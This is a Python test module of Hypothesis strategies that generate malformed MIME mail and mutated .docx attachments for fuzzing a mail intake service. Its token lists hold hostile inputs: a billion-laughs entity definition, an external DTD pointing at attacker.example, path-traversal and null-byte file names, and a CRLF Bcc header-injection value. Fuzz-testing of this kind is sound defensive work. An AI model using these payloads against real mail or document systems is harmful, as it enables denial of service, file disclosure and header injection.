"""Hypothesis strategies for hostile mail: generated MIME trees, mutated bytes, mutated Office files.

Three sources, mixed by `hostile_messages()`:
- MIME trees built from parts that real and broken mail programs send: every
  charset and transfer encoding, file names in RFC 2047 and RFC 2231 and raw
  8-bit, broken boundaries, forwarded messages, deep nesting, screening headers;
- real messages (the tests/mail catalogue) with their bytes flipped, cut,
  deleted and spliced with MIME syntax;
- real .docx files (made by intake.samples.make_docx) flipped, truncated, with
  their zip members reordered, dropped, duplicated or stored, XML injected into
  their parts, and the judge's own hostile files (zip bomb, billion laughs, XXE).
"""

from __future__ import annotations

import base64
import functools
import io
import quopri
import warnings
import zipfile
from dataclasses import dataclass

from hypothesis import strategies as st

from intake.samples import DOCX, Contributor, make_docx
from tests.mail import cases as catalogue

# --- seeds ------------------------------------------------------------------------------------


@functools.cache
def good_docx() -> tuple[bytes, ...]:
    """Real .docx files: filled in (accepted as they are) and one not filled in."""
    event = catalogue.event()
    who = Contributor("Jane Doe", "jane@example.org", "Example Institute", "Switzerland")
    return (
        make_docx(event, "Avatar interoperability", who.organization, who, "An abstract.", 2),
        make_docx(event, "Спецификация метавселенной", "НИИ", who, "Аннотация.", 1),
        make_docx(event, "[Insert title (always in ENGLISH)]", "", who, "", 1),
    )


@functools.cache
def judge_hostile_files() -> tuple[bytes, ...]:
    """The judge's own hostile files (tests/judge/corpus.py): bombs, entities, macros, CFB."""
    from tests.judge import corpus as c

    return (
        c.zip_bomb(),
        c.billion_laughs(),
        c.xxe(),
        c.external_dtd(),
        c.macro_docx(),
        c.encrypted_docx(),
        c.duplicate_part(),
        c.bad_crc(),
        c.encrypted_member(),
        c.spreadsheet(),
        c.many_parts(2000),
        c.PDF,
        c.VCARD,
    )


@functools.cache
def real_messages() -> tuple[bytes, ...]:
    return tuple(case.raw for case in catalogue.all_cases())


def winmail(docx: bytes) -> bytes:
    return catalogue.winmail_dat("Contribution – Outlook.docx", docx)


# --- mutating bytes -----------------------------------------------------------------------------

MIME_TOKENS = (
    b"",
    b"\r\n",
    b"\n",
    b"\r\n\r\n",
    b"\x00",
    b"\xff\xfe",
    b"\xc3",
    b"--",
    b"--boundary--\r\n",
    b'\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\n',
    b"\r\nContent-Type: message/rfc822\r\n\r\n",
    b"\r\nContent-Transfer-Encoding: base64\r\n",
    b"\r\nContent-Transfer-Encoding: quoted-printable\r\n",
    b"=?utf-8?b?",
    b"=?",
    b"?=",
    b"=?x-unknown?q?=FF=FE?=",
    b"=\r\n",
    b"=ZZ",
    b"filename*0*=utf-8''%FF%FE; filename*1*=%",
    b'; name="',
    b"\t",
    b" " * 300,
    b"A" * 2000,
    b"\x1b[2J",
    b"begin 644 file.docx\r\n",
)
XML_TOKENS = (
    b"<",
    b">",
    b"&",
    b"&lol;",
    b"]]>",
    b"<![CDATA[",
    b"<!--",
    b"<?xml version='1.0' encoding='UTF-16'?>",
    b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
    b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
    b"</w:tc>",
    b"<w:tbl><w:tr><w:tc>",
    b"<w:p>" * 500,
    b"</w:body>",
    b'<w:attachedTemplate r:id="rId99"/>',
    b"\x00",
    b"\xff\xfe\xfd",
    b"\xef\xbb\xbf",
    b"x" * 5000,
)


@dataclass(frozen=True)
class Edit:
    at: float  # where, as a fraction of the length
    cut: int  # how many bytes to remove there
    insert: bytes


edits = st.lists(
    st.builds(
        Edit,
        at=st.floats(0, 1, allow_nan=False),
        cut=st.integers(0, 64),
        insert=st.one_of(st.sampled_from(MIME_TOKENS), st.binary(max_size=16)),
    ),
    min_size=1,
    max_size=6,
)


def apply_edits(data: bytes, changes: list[Edit]) -> bytes:
    out = bytearray(data)
    for change in changes:
        at = int(change.at * len(out))
        out[at : at + change.cut] = change.insert
    return bytes(out)


# --- mutating Office files ----------------------------------------------------------------------

ZIP_MUTATIONS = ("flip", "truncate", "reorder", "drop", "duplicate", "store", "inject_xml", "nest", "none")


REBUILD_LIMIT = 4 * 2**20  # inflated bytes a mutation may rebuild: never the 1 GiB of a zip bomb


def _members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    """The members of a zip, to rebuild it; ValueError if they inflate past REBUILD_LIMIT.

    The generator must stay small itself: re-zipping a bomb's gigabyte (stored, it
    would then really be a gigabyte) measures the test, not the service.
    """
    members = []
    left = REBUILD_LIMIT
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for info in package.infolist():
            with package.open(info) as member:
                content = member.read(left + 1)
            left -= len(content)
            if left < 0:
                raise ValueError("too large to rebuild")
            members.append((info, content))
    return members


def _rezip(members: list[tuple[zipfile.ZipInfo, bytes]], method: int | None = None) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are one of the mutations
        with zipfile.ZipFile(out, "w") as package:
            for info, content in members:
                fresh = zipfile.ZipInfo(info.filename, date_time=info.date_time)
                fresh.compress_type = info.compress_type if method is None else method
                package.writestr(fresh, content)
    return out.getvalue()


@st.composite
def office_files(draw: st.DrawFn) -> bytes:
    """A real .docx (or one of the judge's hostile files), mutated one way or several."""
    source = draw(st.sampled_from(("good",) * 6 + ("hostile",)))
    pool = good_docx() if source == "good" else judge_hostile_files()
    data = draw(st.sampled_from(pool))
    for mutation in draw(st.lists(st.sampled_from(ZIP_MUTATIONS), min_size=1, max_size=3)):
        data = _mutate(draw, data, mutation)
    return data


def _mutate(draw: st.DrawFn, data: bytes, mutation: str) -> bytes:
    if mutation == "flip":
        out = bytearray(data)
        for at in draw(st.lists(st.integers(0, max(len(out) - 1, 0)), min_size=1, max_size=8)):
            if out:
                out[at] ^= draw(st.integers(1, 255))
        return bytes(out)
    if mutation == "truncate":
        return data[: draw(st.integers(0, len(data)))]
    if mutation == "nest":  # a docx inside a zip inside a docx
        return _rezip([(zipfile.ZipInfo("word/document.xml"), data), (zipfile.ZipInfo("inner.docx"), data)])
    try:
        members = _members(data)
    except Exception:  # not a zip (any more): flip instead
        return _mutate(draw, data, "flip")
    if not members:
        return data
    if mutation == "reorder":
        order = draw(st.permutations(range(len(members))))
        return _rezip([members[i] for i in order])
    if mutation == "drop":
        gone = draw(st.integers(0, len(members) - 1))
        return _rezip(members[:gone] + members[gone + 1 :])
    if mutation == "duplicate":
        twice = draw(st.integers(0, len(members) - 1))
        return _rezip(members + [members[twice]])
    if mutation == "store":
        return _rezip(members, zipfile.ZIP_STORED)
    if mutation == "inject_xml":
        xml = [i for i, (info, _) in enumerate(members) if info.filename.endswith((".xml", ".rels"))]
        if not xml:
            return data
        which = draw(st.sampled_from(xml))
        info, content = members[which]
        changed = apply_edits(
            content,
            draw(
                st.lists(
                    st.builds(
                        Edit,
                        st.floats(0, 1, allow_nan=False),
                        st.integers(0, 40),
                        st.sampled_from(XML_TOKENS),
                    ),
                    min_size=1,
                    max_size=4,
                )
            ),
        )
        members[which] = (info, changed)
        return _rezip(members)
    return data


# --- generating MIME ----------------------------------------------------------------------------

CHARSETS = (
    "utf-8",
    "us-ascii",
    "iso-8859-1",
    "windows-1252",
    "koi8-r",
    "big5",
    "iso-2022-jp",
    "shift_jis",
    "gb2312",
    "utf-16",
    "utf-7",
    "unknown-8bit",
    "x-made-up",
    "",
)
ENCODINGS = ("7bit", "8bit", "binary", "base64", "quoted-printable", "x-uuencode", "bogus", None)
TEXTS = (
    "Dear secretariat, please find our contribution attached.",
    "Вклад во вложении.",
    "寄書を添付いたします。",
    "您好，附件是我們的提案。",
    "مساهمتنا مرفقة.",
    "Grüße, Zoë",
    "",
    "\x00\x01 control \x7f",
    "a" * 3000,
)
FILENAMES = (
    "contribution.docx",
    "Вклад по метавселенной.docx",
    "寄書 メタバース.docx",
    "Contribution – draft (v2).docx",
    "../../etc/passwd",
    "C:\\Windows\\win.ini",
    "winmail.dat",
    "smime.p7s",
    "noextension",
    ".docx",
    "a" * 600 + ".docx",
    "evil\r\nBcc: victim@example.org.docx",
    "nul\x00byte.docx",
    "",
)
CONTENT_TYPES = (
    DOCX,
    "application/octet-stream",
    "application/msword",
    "application/pdf",
    "application/zip",
    "application/ms-tnef",
    "application/pkcs7-signature",
    "image/png",
    "text/plain",
    "text/html",
    "text/calendar",
    "message/delivery-status",
    "application/x-unknown",
    "garbage",
    "",
)
SCREENING_HEADERS = (
    ("Auto-Submitted", "auto-replied"),
    ("Auto-Submitted", "no"),
    ("Precedence", "bulk"),
    ("List-Id", "<metaverse-l.lists.example.org>"),
    ("X-Spam-Flag", "YES"),
    ("X-Autoreply", "yes"),
    ("Authentication-Results", "mx.itu.int; spf=fail; dkim=fail; dmarc=fail"),
    ("Return-Path", "<>"),
    ("X-Loop", "tsbjcamv@itu.int"),
    ("Reply-To", "Nobody <noreply@example.org>"),
    ("Reply-To", "tsbjcamv@itu.int"),
    ("Received", "from mx.example.org by mx.itu.int; Mon, 27 Apr 2026 10:00:00 +0200"),
    ("Content-Type", "multipart/mixed"),
    ("MIME-Version", "2.0"),
)


def _encode_name(name: str, style: str, charset: str) -> str:
    try:
        data = name.encode(charset if charset and charset not in ("unknown-8bit", "x-made-up") else "utf-8")
    except (UnicodeError, LookupError):
        data = name.encode("utf-8", "surrogatepass")
        charset = "utf-8"
    if style == "rfc2047":
        return f'name="=?{charset or "utf-8"}?B?{base64.b64encode(data).decode()}?="'
    if style == "rfc2231":
        quoted = "".join(f"%{b:02X}" for b in data)
        return f"filename*={charset or 'utf-8'}''{quoted}"
    if style == "continued":
        quoted = "".join(f"%{b:02X}" for b in data)
        chunks = [quoted[i : i + 30] for i in range(0, len(quoted), 30)] or [""]
        return "; ".join(
            f"filename*{i}*={(charset or 'utf-8') + chr(39) * 2 if i == 0 else ''}{chunk}"
            for i, chunk in enumerate(chunks)
        )
    return f'filename="{name}"'  # raw, 8-bit if it is not ASCII


def _body(payload: bytes, encoding: str | None) -> bytes:
    if encoding == "base64":
        return base64.encodebytes(payload)
    if encoding == "quoted-printable":
        return quopri.encodestring(payload)
    if encoding == "x-uuencode":
        import binascii

        lines = [binascii.b2a_uu(payload[i : i + 45]) for i in range(0, len(payload), 45)]
        return b"begin 644 file\n" + b"".join(lines) + b"`\nend\n"
    if encoding == "bogus":
        return base64.b64encode(payload)[: max(len(payload) // 2, 1)] + b"!!not base64!!"
    return payload


@st.composite
def leaf(draw: st.DrawFn) -> bytes:
    content_type = draw(st.sampled_from(CONTENT_TYPES))
    charset = draw(st.sampled_from(CHARSETS))
    encoding = draw(st.sampled_from(ENCODINGS))
    kind = draw(st.sampled_from(("text", "office", "office", "winmail", "binary")))
    if kind == "text":
        text = draw(st.sampled_from(TEXTS))
        try:
            payload = (
                text.encode(charset) if charset not in ("", "unknown-8bit", "x-made-up") else text.encode()
            )
        except (UnicodeError, LookupError):
            payload = text.encode("utf-8")
    elif kind == "office":
        payload = draw(office_files())
    elif kind == "winmail":
        payload = winmail(draw(office_files()))
    else:
        payload = draw(st.binary(max_size=2048))
    lines = [f"Content-Type: {content_type}" + (f"; charset={charset}" if charset else "")]
    name = draw(st.sampled_from((None, *FILENAMES)))
    if name is not None:
        style = draw(st.sampled_from(("plain", "rfc2047", "rfc2231", "continued")))
        where = draw(st.sampled_from(("attachment", "inline", "type", "weird")))
        encoded = _encode_name(name, style, charset)
        if where == "type":
            lines[0] += "; " + encoded.replace("filename", "name")
        else:
            disposition = "x-weird" if where == "weird" else where
            lines.append(f"Content-Disposition: {disposition}; {encoded}")
    if encoding:
        lines.append(f"Content-Transfer-Encoding: {encoding}")
    if draw(st.booleans()):
        lines.append(f"Content-ID: <part{draw(st.integers(0, 99))}@example.org>")
    head = "\r\n".join(lines).encode("utf-8", "surrogateescape")
    return head + b"\r\n\r\n" + _body(payload, encoding)


def multipart(children: st.SearchStrategy[list[bytes]]) -> st.SearchStrategy[bytes]:
    @st.composite
    def build(draw: st.DrawFn) -> bytes:
        subtype = draw(st.sampled_from(("mixed", "alternative", "related", "signed", "report", "digest")))
        boundary = draw(
            st.sampled_from(("b1", "=_Part_0_12345.67890", "", " spaced out ", 'q"uote', "x" * 200, "--"))
        )
        parts = draw(children)
        declared = boundary if draw(st.integers(0, 9)) else "declared-but-unused"
        close = draw(st.integers(0, 9)) > 0
        head = f'Content-Type: multipart/{subtype}; boundary="{declared}"'.encode()
        body = b"preamble junk\r\n" if draw(st.booleans()) else b""
        for part in parts:
            body += b"--" + boundary.encode() + b"\r\n" + part + b"\r\n"
        if close:
            body += b"--" + boundary.encode() + b"--\r\n"
        if draw(st.booleans()):
            body += b"epilogue junk\r\n"
        return head + b"\r\n\r\n" + body

    return build()


def forwarded(inner: st.SearchStrategy[bytes]) -> st.SearchStrategy[bytes]:
    return inner.map(lambda body: b"Content-Type: message/rfc822\r\n\r\n" + _headers_fixed() + body)


def _headers_fixed() -> bytes:
    return b"From: Original Author <author@example.org>\r\nSubject: original\r\n"


mime_body = st.recursive(
    leaf(),
    lambda children: st.one_of(multipart(st.lists(children, min_size=0, max_size=4)), forwarded(children)),
    max_leaves=8,
)


@st.composite
def header_block(draw: st.DrawFn) -> bytes:
    lines: list[bytes] = []
    sender = draw(
        st.sampled_from(
            (
                "Jane Doe <jane@example.org>",
                "=?utf-8?b?0KTRkdC00L7RgA==?= <fedor@example.ru>",
                "=?UTF-8?Q?=0AMy_self?= <me@example.org>",
                "\u00c9milie <emilie@example.fr>",
                "not an address",
                "<>",
                "tsbjcamv@itu.int",
                "MAILER-DAEMON@mx.example.org",
                ", ".join(f"p{i}@example.org" for i in range(300)),
                "",
            )
        )
    )
    if draw(st.integers(0, 9)):
        lines.append(b"From: " + sender.encode("utf-8"))
    lines.append(b"To: tsbjcamv@itu.int")
    subject = draw(
        st.one_of(
            st.sampled_from(
                (
                    "Input document",
                    "=?utf-8?q?Beitrag_f=C3=BCr_JCA-MV?=",
                    "=?iso-2022-jp?B?GyRCJWElPyVQITwlOUk4PWAyPSRYJE40c0ypGyhC?=",
                    "=?x-unknown?b?////?=",
                    "=?utf-8?b?broken",
                    "Re: Fwd: AW: RE: Out of Office: input",
                    "Automatic reply: away",
                    "Undelivered Mail Returned to Sender",
                    "x" * 5000,
                )
            ),
            st.text(max_size=80),
        )
    )
    lines.append(b"Subject: " + subject.encode("utf-8", "surrogatepass"))
    if draw(st.integers(0, 4)):
        lines.append(
            draw(
                st.sampled_from(
                    (
                        b"Message-ID: <m1@example.org>",
                        b"Message-ID: <[b378@microsoft.com]>",
                        b"Message-ID:",
                        b"Message-ID: " + b"<" + b"x" * 2000 + b">",
                    )
                )
            )
        )
    if draw(st.integers(0, 4)):
        lines.append(
            draw(
                st.sampled_from(
                    (
                        b"Date: Mon, 27 Apr 2026 10:29:13 +0200",
                        b"Date: yesterday",
                        b"Date: Fri, 31 Dec 9999 23:59:59 -1200",
                        b"Date: Thu, 01 Jan 1970 00:00:00 +0000",
                        b"Date: Mon, 27 Apr 2026 10:29:13 +9999",
                    )
                )
            )
        )
    for name, value in draw(st.lists(st.sampled_from(SCREENING_HEADERS), max_size=3)):
        lines.append(f"{name}: {value}".encode())
    if draw(st.booleans()):
        lines.append(b"MIME-Version: 1.0")
    if draw(st.integers(0, 9)) == 0:
        lines.append(b"X-Folded: first\r\n \r\n\tsecond")
    if draw(st.integers(0, 9)) == 0:
        lines.append(b"No colon in this header line")
    return b"\r\n".join(lines) + b"\r\n"


@st.composite
def generated_messages(draw: st.DrawFn) -> bytes:
    raw = draw(header_block()) + draw(mime_body)
    ending = draw(st.sampled_from(("crlf", "crlf", "lf", "mixed")))
    if ending == "lf":
        raw = raw.replace(b"\r\n", b"\n")
    elif ending == "mixed":
        raw = raw.replace(b"\r\n\r\n", b"\n\r\n")
    return raw


@st.composite
def mutated_messages(draw: st.DrawFn) -> bytes:
    base = draw(st.one_of(st.sampled_from(real_messages()), generated_messages()))
    return apply_edits(base, draw(edits))


@st.composite
def office_attachments(draw: st.DrawFn) -> bytes:
    """A well-formed message carrying mutated Office files: the judge's input is hostile."""
    files = draw(st.lists(office_files(), min_size=1, max_size=3))
    parts = b""
    for i, data in enumerate(files):
        parts += (
            b"--hb\r\nContent-Type: " + DOCX.encode() + b'; name="f%d.docx"\r\n' % i
            + b'Content-Disposition: attachment; filename="f%d.docx"\r\n' % i
            + b"Content-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(data)
        )  # fmt: skip
    return (
        b"From: Jane Doe <jane@example.org>\r\nTo: tsbjcamv@itu.int\r\nSubject: Input\r\n"
        b"Message-ID: <office@example.org>\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="hb"\r\n\r\n--hb\r\nContent-Type: text/plain\r\n\r\n'
        b"Attached.\r\n" + parts + b"--hb--\r\n"
    )


def hostile_messages() -> st.SearchStrategy[bytes]:
    return st.one_of(generated_messages(), mutated_messages(), office_attachments(), st.binary(max_size=512))
